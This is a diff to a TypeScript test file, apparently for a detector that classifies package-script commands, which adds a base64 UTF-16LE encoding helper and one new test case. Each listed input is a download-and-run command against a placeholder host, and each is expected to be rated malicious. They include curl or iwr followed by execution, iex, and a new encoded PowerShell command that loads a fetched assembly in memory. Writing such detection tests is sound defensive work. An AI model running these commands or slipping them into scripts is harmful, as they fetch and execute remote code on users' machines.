@@ -42,6 +42,7 @@ const inline = (code: string): Files => ({
 });
 
 const u = 'https://files.test';
+const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
 
 describe('what a package script runs is what it fetched', () => {
   it.each([
@@ -64,6 +65,7 @@ describe('what a package script runs is what it fetched', () => {
     `cmd /c "curl -o %TEMP%\\x.exe ${u}/a && %TEMP%\\x.exe"`,
     `iwr ${u}/a -OutFile x.bin\nMove-Item x.bin y.exe\nStart-Process y.exe`,
     `powershell -c "iex (iwr ${u}/a)"`,
+    `Start-Process powershell.exe -ArgumentList '-nop', '-enc', '${encoded(`$p = "$env:TEMP\\x"; iwr ${u}/a -OutFile $p; $b = [IO.File]::ReadAllBytes($p); [Reflection.Assembly]::Load($b)`)}'`,
   ])('%#: %s', async (text) => {
     expect(await level(init(text))).toBe('malicious');
   });
